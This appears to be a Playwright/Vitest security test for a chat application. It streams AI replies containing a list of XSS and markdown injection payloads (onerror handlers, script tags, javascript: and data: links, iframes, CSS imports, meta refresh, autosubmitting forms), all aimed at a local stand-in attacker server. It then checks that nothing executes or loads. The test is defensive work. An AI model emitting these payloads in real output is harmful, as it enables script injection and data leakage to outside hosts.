import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startProvider, replies, type Provider } from '../fakes/provider.ts';
import { meet, newFolder, openStage, say, type Stage } from '../scenes/stage.ts';
import { needs } from '../tools/skip.ts';

/** What a model that means harm, or was talked into it, may answer. `to`: a server that waits for anybody to come. */
const payloads = (to: string): string[] => [
  `<img src=x onerror="fetch('${to}/image-error');globalThis.harmed=1">`,
  `<script>globalThis.harmed=1;fetch('${to}/script')</script>`,
  `<script src="${to}/script.js"></script><script type=module src="${to}/module.js"></script>`,
  `[a link](javascript:globalThis.harmed=1;fetch('${to}/link'))`,
  `[a link](data:text/html,<script>fetch('${to}/data')</script>)`,
  `[a link]( \u0001javascript:globalThis.harmed=1)`,
  `[a link](JaVaScRiPt:globalThis.harmed=1) <javascript:globalThis.harmed=1>`,
  `![a picture](${to}/picture.png "x" onerror=globalThis.harmed=1)`,
  `![a picture][one]\n\n[one]: ${to}/reference.png`,
  `<iframe src="${to}/frame"></iframe><object data="${to}/object"></object><embed src="${to}/embed">`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<svg onload="globalThis.harmed=1"><use href="${to}/use.svg#x"/></svg><math><mtext><img src=x onerror=globalThis.harmed=1>`,
  `<link rel=stylesheet href="${to}/style.css"><style>@import url(${to}/import.css);*{background:url(${to}/back)}</style>`,
  `<link rel=prefetch href="${to}/prefetch"><link rel=preconnect href="${to}"><link rel=dns-prefetch href="${to}">`,
  `<meta http-equiv=refresh content="0;url=${to}/refresh"><base href="${to}/">`,
  `<form action="${to}/form"><input autofocus onfocus="globalThis.harmed=1;form.submit()"></form>`,
  `<video src="${to}/video" autoplay onerror="globalThis.harmed=1"></video><audio src="${to}/audio" autoplay>`,
  `<a href="${to}/a" ping="${to}/ping" autofocus onfocus=globalThis.harmed=1>here</a><details open ontoggle=globalThis.harmed=1>`,
  `\`\`\`html\n<img src=x onerror="globalThis.harmed=1">\n\`\`\`\n\n| <img src=x onerror=globalThis.harmed=1> | b |\n|---|---|`,
];

/** Pieces in which it comes: within a tag, within a word, and nearly whole. */
const sizes = [1, 3, 4_000];

type Harm = { harmed: unknown; violations: number; elements: string[] };

describe('what a reply holds', { ...needs('chromium'), timeout: 300_000 }, () => {
  let evil: http.Server;
  let visits: string[] = [];
  let provider: Provider;
  let opened: { stage: Stage; folder: string } | null = null;
  let asked: string[] = [];
  const address = (): string => `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;

  beforeAll(async () => {
    evil = http.createServer((request, response) => {
      visits.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
      response.end('globalThis.harmed=1');
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    provider = await startProvider('Hello.');
  });
  afterAll(async () => {
    await close();
    await provider.dispose();
    evil.closeAllConnections();
    evil.close();
  });
  const close = async (): Promise<void> => {
    await opened?.stage.quit();
    if (opened !== null) fs.rmSync(opened.folder, { recursive: true, force: true, maxRetries: 5 });
    opened = null;
  };

  /** The window in the middle of a talk; the same for all tests. */
  async function talk(): Promise<Page> {
    if (opened !== null) return opened.stage.page;
    const folder = newFolder();
    const stage = await openStage(folder, { OS1_LLM_BASE_URL: provider.baseUrl, OS1_LLM_MODEL: 'fake-model' });
    opened = { stage, folder };
    try {
      await meet(stage.page, { name: 'Theo', social: 'Now and then', mother: 'She paints.' });
    } catch (cause) {
      await close();
      throw cause;
    }
    const { page } = stage;
    page.on('request', (request) => asked.push(request.url()));
    page.on('dialog', (dialog) => {
      asked.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.context().on('page', (other) => asked.push(`window ${other.url()}`));
    return page;
  }

  const watch = (page: Page): Promise<void> =>
    page.evaluate(() => {
      Object.assign(globalThis, { harmed: undefined, violations: 0 });
      document.addEventListener('securitypolicyviolation', () => {
        (globalThis as unknown as Harm).violations += 1;
      });
    });
  const harm = (page: Page): Promise<Harm> =>
    page.evaluate(() => {
      const found = globalThis as unknown as Harm;
      const harmful =
        'script:not([src^="/assets/"]), iframe, object, embed, base, form[action], video[src], link[href^=http], img[src^=http]';
      const log = document.querySelector('[role=log]');
      return {
        harmed: found.harmed,
        violations: found.violations,
        elements: [...(log?.querySelectorAll(harmful) ?? [])].map(({ outerHTML }) => outerHTML),
      };
    });

  test.each(sizes)('runs nothing, loads nothing and leads nowhere, streamed %i characters at a time', async (size) => {
    const page = await talk();
    await watch(page);
    const before = page.url();
    asked = [];
    visits = [];
    const all = payloads(address());
    // In a few replies: a screen of each, and one of all together in which one may open what another closes.
    for (const text of size === 1 ? [all.join('\n\n')] : [...chunksOf(all, 5), all.join(' ')]) {
      provider.setReply(replies.says(text, { size }));
      await say(page, 'Show me');
    }
    expect(await harm(page)).toEqual({ harmed: undefined, violations: 0, elements: [] });
    expect(visits).toEqual([]);
    expect(asked).toEqual([]);
    expect(page.url()).toBe(before);
  });

  test('would not run or load either if it got into the page: the policy of the page forbids it', async () => {
    const page = await talk();
    await watch(page);
    asked = [];
    visits = [];
    await page.evaluate(
      (texts) => {
        for (const text of texts) {
          const place = document.createElement('div');
          document.body.append(place);
          place.innerHTML = text;
          // Scripts that come by innerHTML never run; made by hand they would.
          for (const dead of place.querySelectorAll('script')) {
            const script = document.createElement('script');
            if (dead.src === '') script.textContent = dead.textContent;
            else script.src = dead.src;
            dead.replaceWith(script);
          }
        }
      },
      payloads(address()).filter((text) => text.startsWith('<') && !text.includes('http-equiv=refresh')),
    );
    await page.evaluate(async (to) => {
      await fetch(`${to}/fetch`).catch(() => undefined);
      navigator.sendBeacon(`${to}/beacon`, 'x');
      await new Promise((resolve) => {
        const socket = new WebSocket(to.replace('http', 'ws'));
        socket.onerror = socket.onopen = resolve;
      }).catch(() => undefined);
    }, address());
    await expect.poll(async () => (await harm(page)).violations, { timeout: 30_000 }).toBeGreaterThan(10);
    expect((await harm(page)).harmed).toBeUndefined();
    expect(visits).toEqual([]);
  });
});

/** The items in texts of so many. */
const chunksOf = (items: string[], size: number): string[] =>
  Array.from({ length: Math.ceil(items.length / size) }, (_, at) =>
    items.slice(at * size, (at + 1) * size).join('\n\n'),
  );
